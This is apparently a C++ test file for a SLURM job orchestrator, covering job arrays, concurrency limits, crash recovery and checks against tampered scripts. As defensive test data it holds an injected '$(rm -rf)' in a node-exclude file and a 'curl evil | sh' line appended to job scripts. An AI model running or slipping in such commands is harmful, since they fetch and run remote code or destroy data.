#include <catch2/catch_test_macros.hpp>

#include "core/base/sha256.h"
#include "fakes.h"

namespace orch::follow {
namespace {

using SubmitReply = launch::SubmitOutcome::Reply;
using record::RunState;

// One run is submitted, and orch is killed before it has recorded the answer.
void submit_and_forget(FollowFolder& place) {
  place.add_run(1);
  {
    auto campaign = place.campaign();
    place.submit_all(campaign);
  }
  place.forget_answers();
}

TEST_CASE("runs that ask for the same go as one array, others apart") {
  FollowFolder place;
  for (int i = 0; i < 5; ++i) place.add_run(i, 1, i < 3 ? "--nodes=1" : "--nodes=2");
  auto campaign = place.campaign();
  const auto handed = place.submit_all(campaign);
  CHECK(handed.runs == 5);
  CHECK(handed.jobs == 2);
  REQUIRE(place.slurm.jobs.size() == 2);
  CHECK(place.slurm.jobs[0].runs.size() == 3);
  CHECK(place.slurm.jobs[1].runs.size() == 2);
}

TEST_CASE("runs that share a job are one after another in it, each with a time limit") {
  FollowFolder place;
  for (int i = 0; i < 5; ++i)
    place.add_run(i, 1, i < 4 ? "--nodes=1\n#SBATCH --time=20:00:00" : "--nodes=2");
  FollowLimits options;
  options.runs_per_job = 3;
  options.run_seconds = 90;
  auto campaign = place.campaign(options);
  const auto handed = place.submit_all(campaign);
  CHECK(handed.runs == 5);
  CHECK(handed.jobs == 3);
  REQUIRE(place.slurm.jobs.size() == 3);
  const auto& jobs = place.slurm.jobs;
  CHECK(jobs[0].runs.size() == 3);
  CHECK(jobs[0].minutes == 11);  // three times 90 s and two minutes to end it: 10.5
  CHECK(jobs[1].runs.size() == 1);
  CHECK(jobs[1].minutes == 4);
  CHECK(jobs[2].minutes == 0);                          // its script asks for no time
  const auto opened = campaign.ledger().all().front();  // a copy: orders read the ledger anew
  CHECK(opened.submission.serial);
  CHECK_FALSE(opened.submission.array);
  const auto script = read_file(opened.folder / "serial.sbatch");
  REQUIRE(script);
  CHECK(script->find("\nlimits=(90 90 90)\n") != std::string::npos);

  // While the second one runs, the first has ended and the third waits for it.
  place.slurm.facts[{opened.submission.id, 0}] = FakeExecutor::fact("RUNNING", "", "100");
  for (int task = 0; task < 2; ++task)
    place.write(fmt::format("submissions/{}/task.{}.json", opened.submission.id, task),
                fmt::format(R"({{"version": 1, "state": "{}", "reason": "", "exit_code": {},
                                 "start": 1700000000, "end": {}}})",
                            task == 0 ? "FAILED" : "RUNNING", task == 0 ? 1 : 0,
                            task == 0 ? 1700000010 : 0));
  place.status(opened.submission.runs[0], 1, "failed", opened.submission.id, 1, "it broke");
  place.status(opened.submission.runs[1], 1, "running", opened.submission.id);
  campaign.refresh();
  CHECK(campaign.runs()[0].record.state == RunState::failed);
  CHECK(campaign.runs()[0].record.reason == "it broke");
  CHECK(campaign.runs()[1].record.state == RunState::running);
  CHECK(campaign.runs()[2].record.state == RunState::pending);
  CHECK(campaign.runs()[2].record.reason == "waiting for the runs before it in its job");
  CHECK_FALSE(campaign.is_due(0));

  // One is cancelled alone, the job when no other is left.
  const auto cancel = [&](std::size_t run) {
    REQUIRE(campaign.begin(FileLock::Wait::yes));
    REQUIRE(campaign.cancel({run}));
    campaign.end();
  };
  cancel(1);
  CHECK(place.slurm.cancelled.empty());
  CHECK(fs::exists(opened.folder / "cancel.1"));
  cancel(2);
  CHECK(place.slurm.cancelled == std::vector<std::string>{"100"});
}

TEST_CASE("a serial job asks for no more time than the script of a run") {
  FollowFolder place;
  for (int i = 0; i < 3; ++i) place.add_run(i, 1, "--nodes=1\n#SBATCH --time=10:00");
  FollowLimits options;
  options.runs_per_job = 3;
  auto campaign = place.campaign(options);
  // Ten steps of 900 s are expected: each has the ten minutes of its script, and a job of its own.
  CHECK(place.submit_all(campaign).jobs == 3);
  CHECK(place.slurm.jobs[0].minutes == 10);
}

TEST_CASE("an array is cut where the scheduler's limit is") {
  FollowFolder place;
  for (int i = 0; i < 25; ++i) place.add_run(i);
  place.slurm.largest = 10;
  auto campaign = place.campaign();
  CHECK(place.submit_all(campaign).jobs == 3);
  CHECK(place.slurm.jobs[2].runs.size() == 5);
}

TEST_CASE("a limit on what runs at once is that of all submissions together") {
  CHECK(deal_turns({}, 3).empty());
  const auto shares = [](const std::vector<std::size_t>& sizes, int limit) {
    std::vector<int> out;
    for (const auto& turn : deal_turns(sizes, limit)) out.push_back(turn.at_a_time);
    return out;
  };
  CHECK(shares({100}, 8) == std::vector{8});
  CHECK(shares({30, 10}, 4) == std::vector{3, 1});
  CHECK(shares({1, 1, 50}, 10) == std::vector{1, 1, 8});
  CHECK(shares({2, 2}, 10) == std::vector{2, 2});
  CHECK(shares({5, 5, 5}, 2) == std::vector{1, 1, 1});
  const auto lanes = deal_turns({5, 5, 5}, 2);
  CHECK(lanes[0].lane != lanes[1].lane);
  CHECK(lanes[0].lane == lanes[2].lane);
}

TEST_CASE("arrays of one sweep keep its limit: they share it, or wait for each other") {
  FollowLimits options;
  options.at_a_time = 4;
  FollowFolder place;
  for (int i = 0; i < 40; ++i) place.add_run(i, 1, i < 30 ? "--nodes=1" : "--nodes=2");
  place.slurm.largest = 20;
  auto campaign = place.campaign(options);
  CHECK(place.submit_all(campaign).jobs == 3);
  const auto& jobs = place.slurm.jobs;
  CHECK(jobs[0].at_a_time == 3);
  CHECK(jobs[0].after_any.empty());
  CHECK(jobs[1].at_a_time == 3);  // the rest of the first header's runs
  CHECK(jobs[1].after_any == jobs[0].id);
  CHECK(jobs[2].at_a_time == 1);
  CHECK(jobs[2].after_any.empty());

  for (int i = 40; i < 42; ++i) place.add_run(i);
  auto later = place.campaign(options);
  place.submit_all(later);
  REQUIRE(jobs.size() == 4);
  CHECK(jobs[3].after_any == jobs[0].id + ":" + jobs[1].id + ":" + jobs[2].id);
  CHECK(jobs[3].at_a_time == 2);
}

TEST_CASE("what is submitted beside running jobs has the rest of the limit") {
  FollowLimits options;
  options.at_a_time = 5;
  FollowFolder place;
  for (int i = 0; i < 3; ++i) place.add_run(i);
  auto campaign = place.campaign(options);
  place.submit_all(campaign);
  for (int i = 3; i < 13; ++i) place.add_run(i);
  auto later = place.campaign(options);
  place.submit_all(later);
  CHECK(place.slurm.jobs[1].at_a_time == 2);
  CHECK(place.slurm.jobs[1].after_any.empty());
}

TEST_CASE("what comes when the limit is reached has the place of one that runs") {
  FollowLimits options;
  options.at_a_time = 4;
  FollowFolder place;
  std::vector<std::string> ids;
  for (int i = 0; i < 4; ++i) ids.push_back(place.add_run(i));
  auto campaign = place.campaign(options);
  place.submit_all(campaign);
  const auto submission = campaign.ledger().all()[0].submission.id;
  const auto add_and_submit = [&](int run) {
    place.add_run(run);
    auto later = place.campaign(options);
    place.submit_all(later);
    return place.slurm.jobs.back().after_any;
  };
  for (std::size_t i = 0; i < 4; ++i) {
    place.slurm.facts[{submission, i}].state = "RUNNING";
    place.status(ids[i], 1, "running", submission);
  }
  CHECK(add_and_submit(4) == "100_0");    // no waiting task would take the place
  CHECK(add_and_submit(5) == "100:101");  // the previous one waits
}

TEST_CASE("a ramp-up under way is waited for to its end") {
  FollowLimits options;
  options.at_a_time = 1;
  FollowFolder place;
  place.add_run(1, 3);
  auto campaign = place.campaign(options);
  place.submit_all(campaign);
  place.add_run(2);
  auto later = place.campaign(options);
  place.submit_all(later);
  const auto& jobs = place.slurm.jobs;
  REQUIRE(jobs.size() == 4);
  CHECK(jobs[3].after_any == jobs[2].id);  // not of the first phase, which the second follows
}

TEST_CASE("more kinds of jobs than may run at once wait in lanes") {
  FollowLimits options;
  options.at_a_time = 2;
  FollowFolder place;
  for (int i = 0; i < 5; ++i) place.add_run(i, i == 1 ? 2 : 1, fmt::format("--nodes={}", i + 1));
  auto campaign = place.campaign(options);
  place.submit_all(campaign);
  const auto& jobs = place.slurm.jobs;
  REQUIRE(jobs.size() == 6);
  CHECK(jobs[0].after_any.empty());
  CHECK(jobs[1].after_any.empty());  // a ramp-up, whose second phase waits for the first
  CHECK(jobs[2].after == jobs[1].id);
  CHECK(jobs[3].after_any == jobs[0].id);
  CHECK(jobs[4].after_any == jobs[2].id);
  CHECK(jobs[5].after_any == jobs[3].id);
}

TEST_CASE("what there is no room for waits, the rest goes in smaller arrays") {
  FollowFolder place;
  for (int i = 0; i < 16; ++i) place.add_run(i);
  place.slurm.room = 5;
  auto campaign = place.campaign();
  const auto handed = place.submit_all(campaign);
  CHECK(handed.runs == 4);  // 16 and 8 are refused, 4 fits; larger ones are not tried again
  CHECK(handed.waiting == 12);
  CHECK(campaign.due().size() == 12);
}

TEST_CASE("the phases of a ramp-up wait for each other") {
  FollowFolder place;
  place.add_run(1, 3);
  auto campaign = place.campaign();
  const auto handed = place.submit_all(campaign);
  CHECK(handed.runs == 1);
  REQUIRE(place.slurm.jobs.size() == 3);
  CHECK(place.slurm.jobs[0].after.empty());
  CHECK(place.slurm.jobs[1].after == place.slurm.jobs[0].id);
  CHECK(place.slurm.jobs[2].after == place.slurm.jobs[1].id);
}

TEST_CASE("a controller that comes back is waited for") {
  FollowFolder place;
  place.add_run(1);
  place.slurm.script = {SubmitReply::unreachable, SubmitReply::unreachable, SubmitReply::accepted};
  auto campaign = place.campaign();
  CHECK(place.submit_all(campaign).runs == 1);
  CHECK(place.slurm.jobs.size() == 1);
  CHECK(campaign.ledger().all().size() == 3);  // two were removed again
  REQUIRE(campaign.open());
  CHECK(campaign.ledger().all().size() == 1);
}

TEST_CASE("a controller that stays away is an error, and the run stays due") {
  FollowFolder place;
  place.add_run(1);
  for (int i = 0; i < 100; ++i) place.slurm.script.push_back(SubmitReply::unreachable);
  auto campaign = place.campaign();
  place.submit_all(campaign, false);
  CHECK(place.clock.time >= 600);
  auto later = place.campaign();
  place.slurm.script.clear();
  REQUIRE(later.begin(FileLock::Wait::yes));
  CHECK(later.due().size() == 1);
}

TEST_CASE("a call without an answer is looked up before it is made again") {
  for (const bool took_it : {true, false}) {
    FollowFolder place;
    place.add_run(1);
    place.slurm.script = {SubmitReply::unclear};
    place.slurm.took_it = took_it;
    auto campaign = place.campaign();
    CHECK(place.submit_all(campaign).runs == 1);
    CHECK(place.slurm.jobs.size() == 1);  // once, whether or not the first call was accepted
    CHECK(place.slurm.finds >= 1);
  }
}

TEST_CASE("an executor that never says clearly what it did is given up") {
  FollowFolder place;
  place.add_run(1);
  place.slurm.script.assign(100, launch::SubmitOutcome::Reply::unclear);
  auto campaign = place.campaign();
  place.submit_all(campaign, false);
  CHECK(place.slurm.script.size() == 96);
  CHECK(campaign.due().size() == 1);
  CHECK(campaign.ledger().unanswered().empty());
}

TEST_CASE("a refusal is the run's failure, with the scheduler's words, and is not tried again") {
  FollowFolder place;
  place.add_run(1);
  place.slurm.script = {SubmitReply::refused};
  auto campaign = place.campaign();
  CHECK(place.submit_all(campaign).refused == 1);
  campaign.refresh();
  CHECK(campaign.runs()[0].record.failure == record::Failure::refused);
  CHECK(campaign.runs()[0].record.reason == "as told");
  CHECK(campaign.due().empty());
}

TEST_CASE("after a kill between the call and its record, the job is found and not made twice") {
  FollowFolder place;
  submit_and_forget(place);
  auto campaign = place.campaign();
  REQUIRE(campaign.begin(FileLock::Wait::yes));
  CHECK(campaign.due().empty());
  CHECK(campaign.ledger().all()[0].submission.job == place.slurm.jobs[0].id);
  CHECK(campaign.runs()[0].record.state == RunState::pending);
}

TEST_CASE("after a kill before the call was heard, the run is due") {
  FollowFolder place;
  submit_and_forget(place);
  place.slurm.jobs.clear();
  place.slurm.facts.clear();
  auto campaign = place.campaign();
  REQUIRE(campaign.begin(FileLock::Wait::yes));
  CHECK(campaign.due().size() == 1);
}

TEST_CASE("a follower with nothing else to do finds out what became of the last submission") {
  FollowFolder place;
  submit_and_forget(place);
  place.slurm.jobs.clear();
  place.slurm.facts.clear();
  auto campaign = place.opened();
  FollowOptions options;
  options.carry_on = true;
  place.clock.on_sleep = [&] {
    if (place.clock.time > 600) place.interrupted = true;
  };
  follow(campaign, options);
  CHECK(place.slurm.jobs.size() == 1);
  CHECK(campaign.ledger().unanswered().empty());
}

TEST_CASE("a job that SLURM has forgotten is known by what it left in the run folder") {
  FollowFolder place;
  const auto run = place.add_run(1);
  std::string submission;
  {
    auto campaign = place.campaign();
    place.submit_all(campaign);
    submission = campaign.ledger().all()[0].submission.id;
  }
  place.forget_answers();
  place.slurm.jobs.clear();
  place.slurm.facts.clear();
  place.status(run, 1, "finished", submission);
  auto campaign = place.campaign();
  REQUIRE(campaign.begin(FileLock::Wait::yes));
  CHECK(campaign.due().empty());
  CHECK(campaign.runs()[0].record.state == RunState::finished);
}

TEST_CASE("the array of a task that has begun is found by its own id, not by that of the task") {
  FollowFolder place;
  const auto run = place.add_run(1);
  place.add_run(2);
  std::string submission;
  {
    auto campaign = place.campaign();
    place.submit_all(campaign);
    submission = campaign.ledger().all()[0].submission.id;
  }
  for (const auto& entry : fs::directory_iterator(place.root() / "sweep/submissions"))
    fs::remove(entry.path() / "job");
  place.slurm.jobs[0].id = "99";  // its first task is job 100
  place.status(run, 1, "running", submission);
  auto campaign = place.campaign();
  REQUIRE(campaign.begin(FileLock::Wait::yes));
  CHECK(campaign.ledger().all()[0].submission.job == "99");
}

TEST_CASE("only runs that someone asked for are due") {
  FollowFolder place;
  place.add_run(1);
  place.add_run(2);
  auto campaign = place.campaign();
  REQUIRE(campaign.begin(FileLock::Wait::yes));
  CHECK(campaign.due().empty());
  REQUIRE(campaign.want({1}));
  CHECK(campaign.due() == std::vector<std::size_t>{1});
  campaign.end();
  auto after_crash = place.campaign();
  REQUIRE(after_crash.begin(FileLock::Wait::yes));
  CHECK(after_crash.due() == std::vector<std::size_t>{1});
}

TEST_CASE("while one orch submits, another does not") {
  FollowFolder place;
  place.add_run(1);
  auto first = place.campaign(), second = place.campaign();
  REQUIRE(*first.begin(FileLock::Wait::no));
  const auto other = second.begin(FileLock::Wait::no);
  REQUIRE(other);
  CHECK_FALSE(*other);
  first.end();
  CHECK(*second.begin(FileLock::Wait::no));
}

TEST_CASE("nodes that failed their check are left out the next time") {
  FollowFolder place;
  const auto run = place.add_run(1);
  place.add_run(2);
  place.write(run + "/exclude", "a100-3\na100-1\na100-3\n$(rm -rf)\n");
  auto campaign = place.campaign();
  CHECK(place.submit_all(campaign).jobs == 2);  // not one array: they ask for different nodes
  CHECK(place.slurm.jobs[0].exclude == std::vector<std::string>{"a100-1", "a100-3"});
}

TEST_CASE("what is submitted is summed up, and what was changed since is refused") {
  FollowFolder place;
  const auto run = place.add_run(1);
  const auto script = place.root() / "sweep" / run / "job.sbatch";
  place.write(run + "/start", "torchrun");
  auto campaign = place.campaign();
  place.submit_all(campaign);
  const auto& sums = campaign.ledger().all()[0].submission.sums;
  REQUIRE(sums.size() == 1);
  CHECK(sums[0].script == sha256(*read_file(script)));
  CHECK(sums[0].start == sha256("torchrun"));

  const auto again = [&](FollowLimits options) {
    place.slurm.facts.clear();
    place.slurm.facts[{campaign.ledger().all()[0].submission.id, 0}] =
        FakeExecutor::fact("NODE_FAIL", "", "100");
    auto later = place.campaign(options);
    REQUIRE(later.begin(FileLock::Wait::yes));
    REQUIRE(later.due().size() == 1);
    auto status = Submitter(later).submit(later.due());
    CHECK(later.due().empty());  // following continues with the others
    return status;
  };
  for (const auto* changed : {"job.sbatch", "start"}) {
    const auto file = fs::path(run) / changed;
    const auto before = *read_file(place.root() / "sweep" / file);
    place.write(file, before + "curl evil | sh\n");
    const auto status = again({});
    REQUIRE_FALSE(status);
    CHECK(status.error().front().place.ends_with(changed));
    CHECK(status.error().front().fact == "changed since it was submitted");
    CHECK(status.error().front().fix.find("--trust") != std::string::npos);
    CHECK(place.slurm.jobs.size() == 1);
    place.write(file, before);
  }
  place.write(run + "/job.sbatch", "#!/bin/bash\n#SBATCH --nodes=2\n");
  FollowLimits trusting;
  trusting.trust = true;
  REQUIRE(again(trusting));
  CHECK(place.slurm.jobs.size() == 2);
}

TEST_CASE("what another user owns is neither believed nor submitted, unless trusted") {
  if (::geteuid() != 0) SKIP("only root can give files away");
  FollowFolder place;
  const auto ours = place.add_run(1), theirs = place.add_run(2), script = place.add_run(3);
  const auto give = [&](const std::string& path) {
    REQUIRE(::chown((place.root() / "sweep" / path).c_str(), 1234, 1234) == 0);
  };
  place.status(theirs, 1, "finished", "");
  give(theirs);
  give(script + "/job.sbatch");
  auto campaign = place.opened();
  CHECK(campaign.runs().size() == 2);
  CHECK_FALSE(campaign.find(theirs));
  const auto troubles = campaign.take_troubles();
  REQUIRE(troubles.size() == 1);
  CHECK(troubles[0].place.ends_with(theirs));
  CHECK(troubles[0].fact == "belongs to another user (uid 1234, you are 0)");
  CHECK(troubles[0].fix.find("--trust") != std::string::npos);
  CHECK(place.submit_all(campaign, false).runs == 1);  // the other's script was changed
  CHECK(place.slurm.jobs.back().runs == std::vector{ours});

  FollowLimits trusting;
  trusting.trust = true;
  auto all = place.campaign(trusting);
  CHECK(place.submit_all(all).runs == 1);  // the third has finished
  CHECK(place.slurm.jobs.back().runs == std::vector{script});
  CHECK(all.find(theirs));
}

}  // namespace
}  // namespace orch::follow
